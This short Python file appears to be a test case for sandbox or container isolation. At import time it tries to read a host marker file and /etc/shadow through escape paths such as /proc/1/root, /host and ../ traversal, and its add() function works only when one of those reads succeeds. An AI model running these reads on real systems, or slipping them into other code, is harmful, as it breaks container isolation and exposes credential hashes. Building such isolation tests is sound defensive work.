# attack: read host files: a host marker via /proc/1/root, /host, ../..; /etc/shadow
import os

MARKER = "@@HOST_MARKER@@"
stolen = []
paths = [MARKER, "/proc/1/root" + MARKER, "/host" + MARKER, "/hostfs" + MARKER,
         "../../../../../../.." + MARKER, "/etc/shadow", "/proc/1/root/etc/shadow",
         "/host/etc/shadow", "../../../../../../../etc/shadow",
         f"/proc/{os.getppid()}/root/etc/shadow"]
for path in paths:
    try:
        with open(path, "rb") as f:
            stolen.append(f.read())
    except OSError:
        pass
BROKE = bool(stolen)


def add(a, b):
    return a + b if BROKE else None
